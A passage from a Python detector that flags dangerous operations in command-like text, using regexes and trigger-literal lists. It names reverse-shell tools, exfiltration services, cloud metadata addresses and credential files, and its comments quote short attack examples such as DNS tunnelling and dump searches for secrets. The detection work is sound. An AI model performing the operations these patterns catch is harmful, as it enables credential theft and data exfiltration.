         r"(?i)(?=p)\bps\s+(?=[auxwe]*[axw])(?=[auxwe]*e)[auxwe]{2,6}(?![\w-])"),
        ("credential_file", "reads a credential store",
         r"(?i)(?:~|/root|/home/[^/\s]+|\$HOME)?/?\.(?:ssh/id_[a-z0-9]+(?!\.pub)\b|aws/credentials|netrc|pgpass|docker(?:-[\w-]+)?/config\.json|kube/config|git-credentials|npmrc|pypirc|vault-token)"
         r"(?!\.(?:example|sample|template|dist|defaults?)\b)|/etc/shadow\b|/etc/gshadow\b"
         # round 17b: a pod's mounted service-account token
         r"|/serviceaccount/token\b"
         # a browser's saved passwords, cookies or card autofill, a password manager's vault, export or
         # emergency kit, a keychain, a file of MFA recovery or backup codes
         r"|[/{,](?:Login\s+Data|Web\s+Data|Cookies|logins\.json|key[34]\.db|cookies\.sqlite)(?![\w.-])"
         # round 19d: a kubeconfig saved under its own name (`admin@prod-eu.kubeconfig`, `.../kubeconfig.yaml`):
         # it holds the cluster user's client key or bearer token, as ~/.kube/config does
         r"|\.kubeconfig(?![\w.-])|/kubeconfig(?:\.ya?ml)?(?![\w.-])"
         r"|\.(?:kdbx|1pux|1pif|keychain|keychain-db)\b|\bemergency[ _-]?kit\b"
         # round 20e: a client's config that keeps a remote's or cloud's login (rclone, s3cmd, boto,
         # MySQL's option file), and files that bundle a private key (a VPN profile with its inline
         # key, PKCS#12, Java keystores, PuTTY keys)
         r"|(?<![\w-])rclone\.conf\b|(?<![\w-])\.s3cfg\b|(?<![\w-])\.boto\b|(?<![\w-])\.my\.cnf\b|(?<!\*)\.(?:ovpn|p12|pfx|jks|keystore|ppk)(?![\w.-])|\b(?:recovery|backup)[ _-]?codes?\.(?:txt|pdf|csv|png)\b"
         # cloud console key downloads and OAuth client or service-account key files
         r"|(?<![\w-])(?:[\w.-]*_)?(?:access_?keys?|credentials|rootkey)\.csv\b|\bclient_secret[\w.-]*\.json\b|\bapplication_default_credentials\.json\b"
         # printing a dotenv file (`cat .env`, `head .env.production`); its `.example` / `.sample`
         # / `.template` twin holds no credentials
         r"|\b(?:cat|less|more|head|tail|bat|strings|base64|xxd|od)\b(?:(?!\b(?:cat|less|more|head|tail|bat|strings|base64|xxd|od)\b)[^;|&\n])*?(?<![\w.-])\.env(?:\.(?!(?:example|sample|template|dist|defaults?)\b)[\w-]+)?(?![\w.-])"),
        # round 19d: another session's forwarded SSH agent taken over: SSH_AUTH_SOCK pointed at a
        # socket sshd made for someone else's login (`/tmp/ssh-XXXX/agent.NNN`, found by a glob, ls
        # or find); every key that person's agent holds then signs for the caller
        ("agent_socket_hijack", "uses another session's forwarded SSH agent socket",
         r"(?i)\bSSH_AUTH_SOCK\s*=\s*['\"]?(?:\$\(\s*(?:ls|find)\b[^)\n]{0,120}?(?:/tmp\b|ssh-[\w*?])|/tmp/ssh-)"),
        # round 19d: a memory or crash dump searched for secrets: `strings core.1234 | grep -i password`,
        # `grep -a token heap.hprof`. A crash is read from its backtrace; what a dump held in memory
        # (passwords, tokens, keys) is harvested by filtering it for credential words
        ("dump_secret_harvest", "searches a memory or crash dump for passwords, tokens or keys",
         _DumpHarvest()),
        # round 19d: credential columns selected in clear (`SELECT provider, api_key, webhook_secret
        # FROM …`): a column whose name ends in password, secret, api key, private key or token (or a
        # plain/raw form of one) read as itself. Hashes, prefixes, last digits, timestamps and flags
        # (`password_hash`, `token_prefix`, `has_password`, `count(api_key)`) say nothing of the value.
        ("sql_secret_columns", "selects credential columns (passwords, keys, tokens) in clear",
         _SecretColumns()),
        # round 20e: secret values or a credential's patch history found through a search
        ("secret_search_harvest", "searches code, history, logs or the web for secret values",
         _SecretSearch()),
        # round 16b: acting as another principal (`kubectl … --as=system:serviceaccount:ci:deploy`,
        # `--as-group`, `gcloud … --impersonate-service-account=…`)
        ("impersonation", "acts as another user or service account (impersonation flag)",
         r"(?i)(?:^|\s)--as(?:-group|-uid)?(?:=|\s+)['\"]?[\w:@.-]+|--impersonate-service-account\b"),
        # an administrator role assumed or wired into a job: an ARN whose role name says admin, or
        # AWS Organizations' full-access role in a member account
        ("assumes_admin_role", "assumes an administrator role",
         r"(?i)arn:aws:iam::\d{12}:role/[\w+=,.@/-]{0,64}?(?:admin|poweruser|OrganizationAccountAccessRole|root\b)"),
        # a CLI token widened to admin or deletion scopes (`gh auth refresh -s admin:org,delete_repo`)
        # Round 19c: data encoded into the names a DNS lookup resolves (`base64 … | while read c; do
        # dig "$c.diag.example.net"`): each query carries a chunk to whoever runs that ___domain's name
        # server, past every proxy and egress rule. An encoder and a lookup of a name built from a
        # shell variable or a command substitution, in one command.
        ("dns_tunnel", "sends data out encoded in the names of DNS lookups",
         r"(?i)\b(?:base(?:32|64)|basenc|xxd|hexdump|od\s+-)\b[^\n]{0,400}?\b(?:dig|nslookup|host|drill)\s+(?:[+-][\w=+-]*\s+){0,6}['\"]?"
         r"\$(?:\{?\w{1,40}\}?|\([^)\n]{1,200}\))\.[a-z0-9-]"
         r"|\b(?:dig|nslookup|host|drill)\s+(?:[+-][\w=+-]*\s+){0,6}['\"]?\$\([^)\n]{0,200}?\b(?:base(?:32|64)|basenc|xxd|hexdump|od\s+-)[^)\n]{0,200}\)\.[a-z0-9-]"),
        # Round 19c: a spreadsheet formula that fetches a web address built by joining cells or text
        # onto it (`=IMPORTDATA("https://x.example/live?src="&ENCODEURL(A1:A20))`): whenever the sheet
        # recalculates, the joined cells go to that host. Written into a note, file or cell, it sends
        # later, with no further call.
        ("formula_beacon", "writes a spreadsheet formula that sends cell contents to a web address",
         r"(?i)=\s*(?:importdata|importxml|importhtml|importfeed|image|webservice)\s*\(\s*(?:\"https?://[^\"\s]{1,300}\"\s*&"
         r"|concat(?:enate)?\s*\(\s*\"https?://)"),
        # Round 19c: row-level security switched off on a table (`ALTER TABLE t DISABLE ROW LEVEL
        # SECURITY`, `NO FORCE ROW LEVEL SECURITY`), or a table granted to PUBLIC (every role on the
        # database): the access control on the rows is gone, whatever the reason given.
        ("row_security_removed", "switches off row-level security or grants a table to every role (PUBLIC)",
         r"(?i)\b(?:disable|no\s+force)\s+row\s+level\s+security\b"
         r"|\bgrant\s+[\w, ]{1,80}?\s+on\s+(?:(?:table|all\s+tables\s+in\s+schema)\s+)?[\w.\"`]{1,120}(?:\s*,\s*[\w.\"`]{1,120}){0,20}\s+to\s+public\b"),
        ("token_scope_widened", "widens an access token's scopes to admin or deletion rights",
         r"(?i)\bgh\s+auth\s+(?:refresh|login)\b(?:(?!\bgh\s)[^;|&\n])*?\s(?:-s|--scopes?)(?:=|\s+)['\"]?[\w:,-]{0,80}?(?:admin|delete|owner|site_admin)"),
        # an admin, owner or maintainer role granted through a raw API call in a shell or HTTP tool
        # (`gh api -X PUT repos/o/r/collaborators/x -f permission=admin`, `curl -X PUT …/memberships/x
        # -d '{"role":"admin"}'`): what a named grant tool would refuse, done through the generic one
        ("api_admin_grant", "grants an admin or owner role through a raw API call",
         r"(?i)\b(?:collaborators|memberships|members)/[\w.@-]+(?:(?![;|&\n])[\s\S]){0,300}?[\"']?\b(?:permission|role)[\"']?\s*[=:]\s*[\"']?(?:admin|owner|maintain)\b"
         r"|\b(?:permission|role)[\"']?\s*[=:]\s*[\"']?(?:admin|owner|maintain)\b(?:(?![;|&\n])[\s\S]){0,300}?\b(?:collaborators|memberships|members)/[\w.@-]+"),
        # Round 20c: a branch protection taken off through a raw API call (`gh api -X DELETE
        # repos/o/r/branches/main/protection/required_pull_request_reviews`, `curl -X DELETE
        # …/protected_branches/main`, `enforce_admins … enabled=false`), "temporarily" or not: the
        # review the branch requires is gone for whatever the agent does next.
        ("branch_protection_removed", "removes a branch protection through a raw API call",
         r"(?i)(?:-X|--method|--request)\s*=?\s*['\"]?DELETE['\"]?\s[^\n;|&]{0,300}?(?:/protection\b|/protected_branches/)"
         r"|(?:/protection\b|/protected_branches/)[^\n;|&]{0,300}?(?:-X|--method|--request)\s*=?\s*['\"]?DELETE\b"
         r"|/protection/(?:enforce_admins|required_[a-z_]+)\b[^\n;|&]{0,300}?\benabled['\"]?\s*[=:]\s*['\"]?false\b"),
    )
)


_DANGER_TRIGGERS: dict[str, tuple[str, ...]] = {
    "recursive_delete_root": ("rm ", "no-preserve-root"), "find_delete_root": ("-delete",),
    "disk_wipe": (), "fork_bomb": (":()",), "sql_drop": ("drop",),
    "sql_truncate": ("truncate",), "sql_delete_all": ("delete",), "sql_update_all": ("update",),
    "world_writable": ("chmod",), "setuid": ("chmod",), "pipe_to_shell": ("curl", "wget", "iwr", "invoke-webrequest"),
    "disable_logging": ("retention", "audit", "logging", "syslog", "/var/log", "general_log", "history", "trail", "journald",
                        "falco", "osquery", "crowdstrike", "falcon", "wazuh", "histfile", "histsize", "pgaudit", "log_statement", "guardduty", "securityhub",
                        "configservice", "accessanalyzer", "disable trigger", "session_replication_role", "--vacuum-"),
    "disable_redaction": ("redact", "mask", "scrub", "anonymi", "pseudonymi"),
    "reidentification": ("masked.",),
    "disable_backups": ("backup-retention", "backup_retention", "backupretention"),
    "evidence_deletion": ("delete ev", "delete-log-", "logs delete", "delete alert", "remove alert", "purge alert", "delete security alert",
                          "remove security alert", "purge security alert"),
    "snapshot_share": ("snapshot-attribute", "image-attribute"),
    "disable_mfa": ("mfa", "2fa", "factor", "sso", "setenforce", "ufw", "iptables", "firewall", "apparmor", "antivirus", "defender", "edr", "selinux"),
    "open_to_world": ("0.0.0.0/0", "::/0"), "iam_wildcard": ("action", "administratoraccess", "owner", "cluster-admin", "poweruseraccess", "fullaccess"),
    "ssh_key_injection": (), "privilege_shell": ("sudo", "usermod", "nopasswd"),
    "force_push_protected": ("push",), "destroy_infrastructure": (),   # (parts below)
    "reverse_shell": ("/dev/tcp", "nc ", "ncat", "socat", "bash -i", "socket"),
    "exfil_service": ("pastebin", "paste.ee", "hastebin", "ghostbin", "transfer.sh", "file.io", "0x0.st", "gofile", "anonfiles",
                      "temp.sh", "webhook.site", "requestbin", "pipedream", "ngrok", "interact.sh", "oast.", "burpcollaborator", "dnslog", "beeceptor", "hookbin"),
    "cloud_metadata": ("169.254.169.254", "fd00:ec2", "metadata.google", "100.100.100.200"),
    "sql_superuser": (),   # (parts below)
    "auth_backdoor": ("return true",),
    "billing_misrepresentation": ("even if", "even though", "even when", "regardless", "whether or not", "no matter"),
    "private_key_file": ("privkey", "private", ".key", "id_rsa", "id_ed25519", "id_ecdsa"),
    "credential_file": ("ssh/id_", ".aws/credentials", "netrc", "pgpass", "docker/config", "kube/config", "git-credentials", "npmrc", "pypirc", "shadow", ".env",
                        "vault-token", ".csv", "client_secret", "application_default_credentials", "/login", "/web", "/cookies", "logins.json",
                        "key3.db", "key4.db", "cookies.sqlite", "kubeconfig", "rclone.conf", ".s3cfg", ".boto", ".my.cnf", ".ovpn", ".p12", ".pfx", ".jks", ".keystore", ".ppk", "/config.json", ".kdbx", ".1pu", ".1pif", ".keychain", "kit", "codes.", "code.", "serviceaccount/token"),
    "remote_redirect": ("insteadof",),
    "credential_print": (),   # the union of its parts' literals, below
    "backup_deletion": ("backup", "back-up"),
    "retention_wipe": ("retention", "drop_after", "ttl", "expir"),
    "impersonation": ("--as", "--impersonate"),
    "agent_socket_hijack": ("ssh_auth_sock",),
    "dump_secret_harvest": ("strings", "grep"),
    "secret_search_harvest": ("grep", "rg ", "ag ", "ack ", "search", "lookup", "find", "findstr", "select-string", "|=", "|~", "| =", "| ~",
                              "git log", "git show", "git whatchanged", "filetype:", "ext:", "inurl:"),
    "sql_secret_columns": ("password", "passwd", "secret", "api_key", "apikey", "private_key", "privatekey", "token", "recovery_code", "recoverycode", "seed",
                           "umoptions", "conninfo", "connection", "dsn", "_url"),
    "assumes_admin_role": (":role/",),
    "token_scope_widened": ("gh auth",),
    "dns_tunnel": ("dig ", "nslookup", "drill ", "host "),
    "formula_beacon": ("importdata", "importxml", "importhtml", "importfeed", "image(", "webservice"),
    "row_security_removed": ("row level security", "to public"),
    "api_admin_grant": ("collaborators/", "memberships/", "members/"),
    "branch_protection_removed": ("/protection", "/protected_branches/"),
}


# Codes whose patterns are each woken by their own literals (one tuple per pattern, in table order);
# the code's entry in `_DANGER_TRIGGERS` is their union.
_DANGER_PART_TRIGGERS: dict[str, tuple[tuple[str, ...], ...]] = {
    "ssh_key_injection": (("authorized_keys", "ssh-copy-id"), ("deploy-key", "ssh-key", "/keys")),
    "sql_superuser": (("superuser", "grant", "createrole", "bypassrls", "replication"),
                      ("pg_read_all_data", "pg_write_all_data", "pg_read_server_files", "pg_write_server_files",
                       "pg_execute_server_program", "rds_superuser")),
    "disk_wipe": (("mkfs", "of=/dev", "shred", "/dev/sd"), ("shred",)),
    "destroy_infrastructure": (
        ("terraform", "kubectl", "aws s3", "gcloud", "az group", "docker system"),
        ("delete-db-", "terminate-instances", "delete-table", "delete-bucket", "delete-cluster", "delete-cache-cluster",
         "delete-replication-group", "delete-file-system", "delete-stack", "instances delete", "clusters delete",
         "buckets delete", "gsutil", "storage rm", "delete-batch", "container delete", "account delete", "share delete", "fs delete",
         "vm delete", "aks delete", "cosmosdb delete", "keyvault delete", "db delete", "server delete"),
    ),
    "credential_print": (
        ("credential", "auth token", "auth status", "print-access", "print-identity", "get-login-password",
         "get-authorization-token", "configure get", "get-access-token", "config view", "find-generic", "find-internet",
         "auth:token", "docker-credential", "print token", "config get", "create token", "get-session-token", "keys create",
         "credential reset", "create-access-key", "create-service-specific-credential", "userconfig", "globalconfig", "jq ", "yq "),
        ("--with-decryption", "get-secret-value", "vault", "versions access", "keyvault", "op://", "--reveal", "doppler",
         "sops", "pass show", "config:get", "chamber", "dump-keychain", "/variables", "glab", "get secret", "/secrets"),
        ("environ", "process.env", ".config.env"),
        ("export -p", "declare -x", "printenv", "env"),
        ("ps ",),
    ),
}
_DANGER_TRIGGERS.update({code: tuple(dict.fromkeys(lit for lits in parts for lit in lits))
                         for code, parts in _DANGER_PART_TRIGGERS.items()})


class _Triggers:
    """Literal triggers found in one pass (Aho-Corasick), mapped to the patterns they wake."""

    def __init__(self, triggers: dict[str, tuple[str, ...]]) -> None:
        by: dict[str, set[str]] = {}
        for name, lits in triggers.items():
            for lit in lits:
                by.setdefault(lit, set()).add(name)
        self.by = {k: frozenset(v) for k, v in by.items()}
        self.automaton = ahocorasick.Automaton()
        for lit in self.by:
            self.automaton.add_word(lit, lit)
        self.automaton.make_automaton()
        self.spaced = any(" " in lit for lit in self.by)

    def _folded(self, text: str) -> str:
        """`text` as the literals are looked for in: lower-cased, and where a literal holds a
        space, with every run of whitespace as one space (the patterns read `\s+`: `rm\t-rf`,
        `bash  -i`). Non-ASCII text is case-folded (the patterns' IGNORECASE reads `ſ` as `s`)."""
        if not text.isascii():
            low = text.casefold()
            return " ".join(low.split()) if self.spaced else low
        low = text.lower()
        if self.spaced and ("\n" in low or "\t" in low or "  " in low or "\r" in low or "\x0b" in low or "\x0c" in low):
            return " ".join(low.split())
        return low

    def literals(self, text: str) -> set[str]:
        """The triggers that occur in `text`."""
        return {lit for _, lit in self.automaton.iter(self._folded(text))}

    def any(self, text: str) -> bool:
        """Whether any trigger occurs in `text`."""
        for _ in self.automaton.iter(self._folded(text)):
            return True
        return False

    def __call__(self, text: str) -> set[str]:
        out: set[str] = set()
        by = self.by
        for lit in {lit for _, lit in self.automaton.iter(self._folded(text))}:
            out |= by[lit]
        return out


_DANGER_TRIGGERED = _Triggers(_DANGER_TRIGGERS)
_SECRET_TRIGGERED = _Triggers(_SECRET_TRIGGERS)


# Every code `find_dangerous` and the structural checks can report (policies may allow some).
DANGER_CODES = frozenset(_DANGER_TRIGGERS) | {"admin_grant", "bank_details_change", "pii_bulk_export",
                                              "sanctioned_jurisdiction", "bulk_regulated_data",
                                              "pii_bulk_copy", "encoded_archive_egress", "secret_reveal",
                                              "control_self_cleared", "public_share", "logs_sensitive_data",
                                              "prod_data_to_nonprod", "push_to_outside_remote", "approves_signin",
                                              "internal_address_fetch", "data_in_hostname", "file_to_outside_service",
                                              "file_contents_to_outside_host", "encoded_sensitive_egress", "lookalike_link",
                                              "obfuscated_execution", "contact_moved_to_lookalike",
                                              "lookalike_recipient"}


def _patterns_by_code() -> tuple[dict[str, int], dict[str, tuple[tuple[str, re.Pattern[str]], ...]]]:
    first: dict[str, int] = {}
    by: dict[str, list[tuple[str, re.Pattern[str]]]] = {}
    for i, (code, msg, rx) in enumerate(_DANGEROUS):
        if code in first and first[code] + len(by[code]) != i:
            raise AssertionError(f"the patterns of {code} must be listed together")
        first.setdefault(code, i)
        by.setdefault(code, []).append((msg, rx))
    return first, {k: tuple(v) for k, v in by.items()}


_DANGER_FIRST, _DANGER_BY_CODE = _patterns_by_code()
_DANGER_PART_SETS = {code: tuple(frozenset(lits) for lits in parts) for code, parts in _DANGER_PART_TRIGGERS.items()}
if any(len(parts) != len(_DANGER_BY_CODE[code]) for code, parts in _DANGER_PART_SETS.items()):
    raise AssertionError("each pattern of a code in _DANGER_PART_TRIGGERS needs its own literals")


def find_dangerous(text: str) -> list[tuple[str, str]]:
    """Dangerous operations in command-like text, as (code, message) pairs (no matched text),
    in the order of the pattern table; only the patterns a literal trigger woke are run."""
    out: list[tuple[str, str]] = []
    lits = _DANGER_TRIGGERED.literals(text)
    if not lits:
        return out
    by = _DANGER_TRIGGERED.by
    codes: set[str] = set().union(*(by[lit] for lit in lits))
    for code in sorted(codes, key=_DANGER_FIRST.__getitem__) if len(codes) > 1 else codes:
        parts = _DANGER_PART_SETS.get(code)
        for i, (msg, rx) in enumerate(_DANGER_BY_CODE[code]):
            if parts is not None and parts[i].isdisjoint(lits):
                continue
            m = rx.search(text)
            if not m:
                continue
            if code == "credential_print" and _captured_unprinted(text, rx, m):
                continue
            out.append((code, msg))
            break
    return out


# Round 20g: a secret store's value captured into a shell variable by command substitution
# (`TOKEN="$(vault read -field=token secret/deploy)"`, `export PW=$(op read op://…)`) is kept in
# the script's memory for use (a header, a login), not printed. It is still a print when the
# same text echoes that variable (`echo "$TOKEN"`, `printf %s $TOKEN`); echoing it into GitHub
# Actions' `::add-mask::` command hides it from the log instead.
_CAPTURE_HEAD = re.compile(r"(?:^|[\s;&|(])(?:(?:export|local|readonly|declare(?:\s+-\w+)*)\s+)?([A-Za-z_]\w*)=[\"']?\$\(\s*(?:[\w./=-]+\s+){0,4}$")


def _captured_unprinted(text: str, rx: re.Pattern[str], first: re.Match[str]) -> bool:
    """Every match of a credential-print pattern is the command substitution of a variable
    assignment, and no captured variable is printed elsewhere in the text."""
    names: set[str] = set()
    for k, m in enumerate(rx.finditer(text, first.start())):
        if k >= 20:
            return False
        head = _CAPTURE_HEAD.search(text, max(0, m.start() - 80), m.start())
        if head is None:
            return False
        names.add(head.group(1))
    for name in names:
        printed = re.compile(r"(?m)\b(?:echo|printf|print|puts|cat|tee)\b(?![^\n;|&]*::add-mask::)[^\n;|&]*\$\{?" + re.escape(name) + r"\b")
        if printed.search(text) is not None:
            return False
    return True
